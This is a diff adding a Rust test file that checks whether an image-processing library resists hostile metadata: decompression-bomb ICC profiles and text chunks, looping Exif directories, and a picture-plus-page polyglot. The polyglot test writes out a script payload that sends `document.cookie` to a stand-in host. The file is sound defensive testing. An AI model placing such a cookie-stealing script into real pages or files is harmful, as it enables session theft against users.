@@ -1,0 +1,154 @@
+//! Rows of metadata: text, profiles, Exif, and what hides behind the picture.
+
+use bombproof::{ColorConversion, Limits, Orientation, Request, Size, probe};
+use bombproof_testkit::bombs::{exif, icc, jpeg, png, webp, with_trailing_data};
+use bombproof_testkit::png as png_writer;
+
+use crate::attack::{Attack, attack, attack_with};
+
+const SMALL: Size = Size::new(16, 16);
+
+/// Metadata may cost nothing: the same picture, from the same number of allocations and bytes.
+fn costs_nothing(with: &Attack, without: &Attack) {
+    assert_eq!(with.is_picture(SMALL), without.is_picture(SMALL));
+    assert_eq!(with.heap, without.heap, "{with:?} {without:?}");
+    assert_eq!(with.work.inflated_bytes, 0);
+}
+
+/// A profile of 50 KB that inflates to 60 MB.
+#[test]
+fn row_05_a_profile_is_inflated_no_further_than_its_cap() {
+    for inflated in [1 << 20, 50 << 20] {
+        let attack = attack(&png::profile(inflated));
+        let color = attack.is_picture(SMALL).color();
+        assert!(matches!(color, ColorConversion::Ignored(_)), "{color:?}");
+        assert!(attack.work.inflated_bytes <= 1 << 20, "{attack:?}");
+        assert!(attack.heap.peak_bytes < 4 << 20, "{attack:?}");
+    }
+}
+
+/// zTXt and iTXt of 4.7 MiB that inflate to 1 GiB.
+#[test]
+fn row_06_text_is_never_inflated_and_never_stored() {
+    let clean = attack(&png::good(png_writer::Options::default()));
+    for kind in [png::Text::Compressed, png::Text::International] {
+        let bomb = png::text(kind, 64 << 20);
+        let attack = attack(&bomb);
+        costs_nothing(&attack, &clean);
+        // Only the header of the chunk is looked at, on each walk.
+        assert!(attack.work.walked_bytes <= clean.work.walked_bytes + 6 * 12, "{attack:?}");
+    }
+}
+
+/// Tags that overlap or repeat made a profile of 1 MiB cost 0.4 s; its tables hold megabytes.
+#[test]
+fn row_23_a_hostile_profile_is_ignored_or_in_the_quote() {
+    for profile in [
+        icc::duplicate_tags(200),
+        icc::duplicate_tags(40_000),
+        icc::large_table(9),
+        icc::large_table(33),
+        icc::large_table(120),
+        icc::padded(900_000),
+        vec![0xFF; 100_000],
+    ] {
+        let deflated = png_writer::zlib(&profile);
+        let mut files = vec![webp::with_icc(&profile), png::with_profile(&deflated)];
+        // A JPEG holds at most 255 parts.
+        if profile.len() < 255 * 65_000 {
+            files.push(jpeg::with_icc(&profile));
+        }
+        for file in files {
+            let attack = attack(&file);
+            attack.is_picture(SMALL);
+            // Of what does not fit the limits, nothing is read but its length.
+            assert!(attack.work.inflated_bytes <= 1 << 20, "{attack:?}");
+            assert!(attack.heap.peak_bytes <= 16 << 20, "{attack:?}");
+        }
+    }
+}
+
+/// 134 bytes that load four million directories: a pointer to itself.
+#[test]
+fn row_24_an_exif_directory_is_read_once_and_nothing_is_followed() {
+    for (tiff, expected) in [
+        (exif::looping(), Orientation::Upright),
+        (exif::pointer_tree(1, 1_000, 4_000), Orientation::Upright),
+        (exif::huge_count(65_535), Orientation::Upright),
+    ] {
+        for file in [jpeg::with_exif(&tiff), png::with_exif(&tiff), webp::with_exif(&tiff)] {
+            assert_eq!(probe(&file).unwrap().orientation, expected);
+            attack(&file).is_picture(SMALL);
+        }
+    }
+}
+
+/// A polyglot: a picture, and a page with a script behind it.
+#[test]
+fn row_27_no_eight_bytes_of_a_payload_survive() {
+    let payload =
+        b"PK\x03\x04<script>document.location='https://example.com/'+document.cookie</script>";
+    for clean in [
+        png::good(png_writer::Options::default()),
+        jpeg::with_segments(Vec::new()),
+        webp::with_icc(&icc::padded(0)),
+    ] {
+        let polyglot = with_trailing_data(&clean, payload);
+        for request in [Request::cover(16, 16).jpeg(80), Request::cover(16, 16).png()] {
+            let attack = attack_with(&polyglot, &request, &Limits::default());
+            let made = attack.is_picture(SMALL);
+            let expected = attack_with(&clean, &request, &Limits::default());
+            assert_eq!(made, expected.is_picture(SMALL));
+            for run in payload.windows(8) {
+                assert!(!made.bytes().windows(8).any(|window| window == run), "{run:?} survives");
+            }
+        }
+    }
+    // A comment in a JPEG is a place for a script as well.
+    let comment = attack(&jpeg::markers(0xFE, 3, payload));
+    assert!(!comment.is_picture(SMALL).bytes().windows(8).any(|w| w == &payload[4..12]));
+}
+
+/// 5.4 KB: three levels of directories, each of whose entries points to the whole next level.
+#[test]
+fn row_44_a_tree_of_directories_is_not_walked() {
+    let tree = exif::pointer_tree(3, 200, 200);
+    for file in [jpeg::with_exif(&tree), png::with_exif(&tree), webp::with_exif(&tree)] {
+        let attack = attack(&file);
+        attack.is_picture(SMALL);
+        // 200 entries of the first directory, on each of the walks; the tree has 1.6 billion.
+        assert!(attack.work.walked_bytes <= 8 * file.len() as u64, "{attack:?}");
+    }
+}
+
+/// 64 KB of records that all name one long string: 178 MB when each is kept.
+#[test]
+fn row_45_the_text_of_a_profile_never_reaches_the_colour_library() {
+    let mluc = icc::mluc(2_600, 30_000);
+    for file in
+        [jpeg::with_icc(&mluc), webp::with_icc(&mluc), png::with_profile(&png_writer::zlib(&mluc))]
+    {
+        let attack = attack(&file);
+        let color = attack.is_picture(SMALL).color();
+        assert!(matches!(color, ColorConversion::Ignored(_)), "{color:?}");
+        assert!(attack.heap.peak_bytes < 2 << 20, "{attack:?}");
+    }
+    // With the tags of a model beside it, the model is all that is copied.
+    let good =
+        bombproof::instrument::minimal_profile(&icc::padded(100_000)).expect("a good profile");
+    assert!(good.len() < 1_000, "{} bytes", good.len());
+    assert!(!good.windows(4).any(|window| window == b"desc" || window == b"cprt"));
+}
+
+/// An eXIf or iCCP chunk as large as the file was doubled by the decoder, and not counted.
+#[test]
+fn row_50_metadata_as_large_as_the_file_never_reaches_the_codec() {
+    let clean = attack(&png::good(png_writer::Options::default()));
+    costs_nothing(&attack(&png::long_exif(8 << 20)), &clean);
+    // The profile is over its limit, so it is reported and not copied.
+    let noise: Vec<u8> =
+        (0..8u32 << 20).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
+    let attack = attack(&png::with_profile(&noise));
+    assert!(matches!(attack.is_picture(SMALL).color(), ColorConversion::Ignored(_)));
+    assert!(attack.heap.peak_bytes < 4 << 20, "{attack:?}");
+}
